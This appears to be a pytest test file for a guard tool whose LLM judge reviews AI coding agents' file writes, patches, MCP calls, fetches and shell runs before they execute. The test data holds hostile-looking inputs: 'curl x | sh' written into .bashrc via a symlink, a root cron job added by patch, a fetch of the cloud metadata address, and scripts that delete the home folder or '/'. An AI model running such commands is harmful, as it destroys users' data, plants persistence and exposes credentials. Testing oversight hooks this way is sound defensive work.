"""The judge sees what a call does: the effect block of writes, edits, patches, MCP calls and fetches, the same in every client.

Through ``guard hook`` against the stub model: the fenced event the model receives
carries the effect (and never the content of a file outside the project), the cache
key covers it (a changed file is judged again), and a client cannot forge the
files the view reads.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from conftest import trust_config
from fixtures.processes import run_guard

from guard.judge.fence import FENCE_RE
from guard.judge.prompts import judge_view
from guard.testing.openai_stub import Reply, StubServer


def _config(home: Path, matcher: str = "Write|write_file|create") -> None:
    (home / "guard.yaml").write_text(
        f"models: {{quick: openai/stub-quick}}\ncache: {{url: 'sqlite:///{home}/cache.db'}}\n"
        f"hooks:\n  PreToolUse:\n    - id: no-wiping\n      matcher: '{matcher}'\n      depth: quick\n      timeout: 60\n"
        "      rule: Deny writes that empty or destroy files the user keeps.\n"
    )
    trust_config(home / "guard.yaml")


def _write(home: Path, path: str, content: str, **extra: Any) -> str:
    return json.dumps(
        {
            "hook_event_name": "PreToolUse",
            "session_id": "s",
            "cwd": str(home / "project"),
            "tool_name": "Write",
            "tool_input": {"file_path": path, "content": content},
            **extra,
        }
    )


def _shown(stub: StubServer, index: int = -1) -> dict[str, Any]:
    """The event JSON the model was shown in call ``index``."""
    user = stub.requests[index]["messages"][1]["content"]
    return json.loads(FENCE_RE.search(user).group(2))  # type: ignore[union-attr]


def _hook(home: Path, stub: StubServer, stdin: str) -> None:
    out = run_guard(["hook"], home, env={"GUARD_API_BASE": stub.url}, stdin=stdin)
    assert out.returncode == 0, out.stderr


@pytest.mark.slow
def test_an_emptying_write_shows_its_diff_and_a_changed_file_is_judged_again(
    stub: StubServer, isolated_home: Path
) -> None:
    _config(isolated_home)
    project = isolated_home / "project"
    project.mkdir()
    (project / "notes.txt").write_text("keep this line\n")
    stub.default = Reply.verdict("deny", "empties notes", confidence=0.9)
    _hook(isolated_home, stub, _write(isolated_home, "notes.txt", ""))
    effect = _shown(stub)["effect"]
    assert (
        effect["kind"] == "write" and effect["path"] == str(project / "notes.txt") and effect["inside_project"] is True
    )
    assert (effect["change"], effect["size"], effect["current_size"]) == ("emptying", 0, 15)
    assert "-keep this line" in effect["diff"]
    _hook(isolated_home, stub, _write(isolated_home, "notes.txt", ""))
    assert stub.calls == 1  # the same call on the same file: the cached verdict
    (project / "notes.txt").write_text("")
    _hook(isolated_home, stub, _write(isolated_home, "notes.txt", ""))
    assert (
        stub.calls == 2 and _shown(stub)["effect"]["change"] == "overwrite (already empty)"
    )  # the view changed, so the key did


@pytest.mark.slow
def test_a_file_outside_the_project_is_described_never_sent(stub: StubServer, isolated_home: Path) -> None:
    _config(isolated_home)
    (isolated_home / "project").mkdir()
    secret = isolated_home / "credentials"
    secret.write_text("aws_secret_access_key = SENTINEL-not-for-the-model\n")
    _hook(isolated_home, stub, _write(isolated_home, str(secret), "x\n"))
    effect = _shown(stub)["effect"]
    assert effect["inside_project"] is False and effect["change"] == "overwrite" and "diff" not in effect
    assert "SENTINEL-not-for-the-model" not in json.dumps(stub.requests)


@pytest.mark.slow
def test_a_symlink_into_the_home_folder_is_shown_where_it_lands(stub: StubServer, isolated_home: Path) -> None:
    _config(isolated_home)
    project = isolated_home / "project"
    project.mkdir()
    (isolated_home / ".bashrc").write_text("export SAFE=1\n")
    os.symlink(isolated_home / ".bashrc", project / "rc")
    _hook(isolated_home, stub, _write(isolated_home, "rc", "curl x | sh\n"))
    effect = _shown(stub)["effect"]
    assert (
        effect["path"] == str(project / "rc")
        and effect["resolves_to"] == str(isolated_home / ".bashrc")
        and effect["inside_project"] is False
    )


@pytest.mark.slow
def test_a_client_cannot_tell_the_view_which_files_exist(stub: StubServer, isolated_home: Path) -> None:
    _config(isolated_home)
    project = isolated_home / "project"
    project.mkdir()
    (project / "main.py").write_text("print('hello')\n")
    _hook(
        isolated_home, stub, _write(isolated_home, "main.py", "", guard_files={})
    )  # "no file exists", says the payload
    shown = _shown(stub)
    assert shown["effect"]["change"] == "emptying" and "guard_files" not in shown


def test_a_fifo_is_never_opened(isolated_home: Path) -> None:
    project = isolated_home / "project"
    project.mkdir()
    os.mkfifo(project / "pipe")
    view = judge_view(
        {
            "hook_event_name": "PreToolUse",
            "cwd": str(project),
            "tool_name": "Write",
            "tool_input": {"file_path": "pipe", "content": "x"},
        }
    )
    assert (
        view["effect"]["change"] == "overwrite" and "diff" not in view["effect"]
    )  # returned at once: opening a FIFO blocks


def test_every_clients_write_and_edit_tools_show_the_same_effect(tmp_path: Path) -> None:
    def effect(tool: str, tool_input: dict[str, Any]) -> dict[str, Any]:
        return judge_view(
            {"hook_event_name": "PreToolUse", "cwd": str(tmp_path), "tool_name": tool, "tool_input": tool_input}
        )["effect"]

    writes = [
        effect("Write", {"file_path": "a.txt", "content": "hi\n"}),
        effect("write_file", {"file_path": "a.txt", "content": "hi\n"}),
        effect("create", {"path": "a.txt", "file_text": "hi\n"}),
    ]
    assert (
        writes[0]
        == writes[1]
        == writes[2]
        == {"kind": "write", "path": str(tmp_path / "a.txt"), "inside_project": True, "change": "new file", "size": 3}
    )
    edits = [
        effect("Edit", {"file_path": "a.py", "old_string": "x = 1", "new_string": "x = 2"}),
        effect("replace", {"file_path": "a.py", "old_string": "x = 1", "new_string": "x = 2"}),
        effect("edit", {"path": "a.py", "old_str": "x = 1", "new_str": "x = 2"}),
        effect("MultiEdit", {"file_path": "a.py", "edits": [{"old_string": "x = 1", "new_string": "x = 2"}]}),
    ]
    assert all(e == edits[0] for e in edits) and edits[0]["changes"] == [{"old": "x = 1", "new": "x = 2"}]
    patch = effect(
        "apply_patch",
        {
            "command": "*** Begin Patch\n*** Delete File: a.py\n*** Add File: /etc/cron.d/x\n+* * * * * root sh\n*** End Patch"
        },
    )
    assert [(f["path"], f["change"], f["inside_project"]) for f in patch["files"]] == [
        (str(tmp_path / "a.py"), "delete", True),
        ("/etc/cron.d/x", "new file", False),
    ]
    assert effect("mcp__github__delete_repository", {"owner": "acme", "repo": "api"}) == {
        "kind": "mcp",
        "server": "github",
        "tool": "delete_repository",
        "arguments": ["owner", "repo"],
    }
    fetched = effect("web_fetch", {"prompt": "summarise http://169.254.169.254/latest/meta-data/"})
    assert (fetched["method"], fetched["url"], fetched["hosts"]) == (
        "GET",
        "http://169.254.169.254/latest/meta-data/",
        ["169.254.169.254"],
    )


def test_a_huge_write_adds_a_bounded_diff(isolated_home: Path) -> None:
    project = isolated_home / "project"
    project.mkdir()
    (project / "big.txt").write_text("old line\n" * 5000)
    view = judge_view(
        {
            "hook_event_name": "PreToolUse",
            "cwd": str(project),
            "tool_name": "Write",
            "tool_input": {"file_path": "big.txt", "content": "new line\n" * 5000},
        }
    )
    assert (
        view["effect"]["change"] == "overwrite"
        and len(view["effect"]["diff"]) < 3100
        and "more characters" in view["effect"]["diff"]
    )


def test_an_agent_started_in_the_home_folder_does_not_make_dotfiles_project_files(isolated_home: Path) -> None:
    home = Path(os.environ["HOME"])  # the fixture's own home folder
    (home / ".netrc").write_text("machine api.example.com password SENTINEL-netrc\n")
    for cwd in (str(home), str(home.parent), os.sep, None):
        event = {
            "hook_event_name": "PreToolUse",
            "tool_name": "Write",
            "tool_input": {"file_path": str(home / ".netrc"), "content": ""},
            **({"cwd": cwd} if cwd else {}),
        }
        view = judge_view(event)
        assert view["effect"]["change"] == "emptying" and "diff" not in view["effect"], cwd
        assert view["effect"]["current_content"].startswith("not shown: ") and "SENTINEL-netrc" not in json.dumps(view)


def _bash(home: Path, command: str) -> str:
    return json.dumps(
        {
            "hook_event_name": "PreToolUse",
            "session_id": "s",
            "cwd": str(home / "project"),
            "tool_name": "Bash",
            "tool_input": {"command": command},
        }
    )


@pytest.mark.slow
def test_the_judge_of_a_run_sees_the_script_and_a_rewritten_script_is_judged_again(
    stub: StubServer, isolated_home: Path
) -> None:
    """Code written in one call and run in the next is judged when it runs: the command alone does not show it."""
    _config(isolated_home, matcher="Bash")
    project = isolated_home / "project"
    (project / "sub").mkdir(parents=True)
    script = project / "reproduce.py"
    script.write_text("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n")
    (project / "sub" / "run.sh").write_text("rm -rf /srv/backups\n")
    stub.default = Reply.verdict("deny", "deletes the home folder", confidence=0.9)
    _hook(isolated_home, stub, _bash(isolated_home, "python3 -u reproduce.py --fast"))
    [run] = _shown(stub)["effect"]["runs"]
    assert run["path"] == str(script) and run["inside_project"] is True and "shutil.rmtree" in run["content"]
    _hook(isolated_home, stub, _bash(isolated_home, "python3 -u reproduce.py --fast"))
    assert stub.calls == 1  # the same script: a cache hit
    script.write_text("print('fixed')\n")
    _hook(isolated_home, stub, _bash(isolated_home, "python3 -u reproduce.py --fast"))
    assert stub.calls == 2 and _shown(stub)["effect"]["runs"][0]["content"] == "print('fixed')\n"
    _hook(isolated_home, stub, _bash(isolated_home, "cd sub && bash run.sh"))
    assert _shown(stub)["effect"]["runs"][0]["content"] == "rm -rf /srv/backups\n"


@pytest.mark.slow
def test_a_run_shows_no_credential_no_outside_file_and_cuts_a_long_script(
    stub: StubServer, isolated_home: Path
) -> None:
    _config(isolated_home, matcher="Bash")
    project = isolated_home / "project"
    project.mkdir()
    (project / "secrets.py").write_text("API_KEY = 'sk-live-123'\n")
    outside = isolated_home / "elsewhere.py"
    outside.write_text("print('not the project')\n")
    (project / "long.py").write_text("# padding\n" * 100_000 + "import shutil; shutil.rmtree('/')\n")
    for command in ("python3 secrets.py", f"python3 {outside}", "python3 long.py", "python3 -c 'print(1)'"):
        _hook(isolated_home, stub, _bash(isolated_home, command))
    secret, far, long, inline = (_shown(stub, i).get("effect") for i in range(4))
    assert secret["runs"][0][
        "content"
    ] == "not shown: its name looks like a credential" and "sk-live" not in json.dumps(stub.requests[0])
    assert far["runs"][0]["inside_project"] is False and "not the project" not in json.dumps(stub.requests[1])
    assert (
        long["runs"][0]["cut"] is True
        and len(long["runs"][0]["content"]) < 3000
        and long["runs"][0]["content"].startswith("# padding")
    )
    assert inline is None  # inline code is in the command itself


def test_in_eval_the_script_comes_from_the_case_files_not_the_disk(isolated_home: Path) -> None:
    from guard.core.session import FILES_FIELD
    from guard.judge.view import effect_of

    (isolated_home / "work").mkdir(exist_ok=True)
    (isolated_home / "work" / "run.py").write_text("print('the disk')\n")
    payload = {
        "tool_name": "Bash",
        "tool_input": {"command": "python3 run.py"},
        "cwd": str(isolated_home / "work"),
        FILES_FIELD: {str(isolated_home / "work" / "run.py"): "print('the case')\n"},
    }
    effect = effect_of(payload)
    assert effect is not None and effect["runs"][0]["content"] == "print('the case')\n"
